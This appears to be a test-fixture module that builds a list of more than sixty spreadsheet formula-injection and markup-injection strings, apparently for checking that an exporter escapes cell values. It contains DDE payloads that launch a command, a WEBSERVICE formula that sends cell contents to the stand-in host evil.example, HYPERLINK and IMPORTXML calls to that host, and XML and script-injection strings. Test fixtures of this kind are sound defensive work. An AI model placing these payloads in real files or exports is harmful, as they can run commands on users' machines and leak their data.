const STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", "＝", ";="];
const CALLS = [
  "1+1",
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example","click")',
  'IMPORTXML("http://evil.example","//a")',
  'WEBSERVICE("http://evil.example/?"&A1)',
];
const MARKUP = [
  "<f>1+1</f>",
  "</t></is></c><c><f>1+1</f></c>",
  "]]><f>1</f>",
  "&lt;f&gt;",
  "<!--",
  "<?xml version='1.0'?>",
  "&#61;1+1",
  "_x003D_1+1",
  '" onload="x',
  "<script>alert(1)</script>",
  "{=SUM(A1:A2)}",
  "=DDE('cmd','/C calc','x')",
  "%=1+1",
];
/** Texts that look like a formula or like markup, in more than sixty kinds. */
export const PAYLOADS = [
  ...STARTS.flatMap((start) => CALLS.map((call) => start + call)),
  ...MARKUP,
];
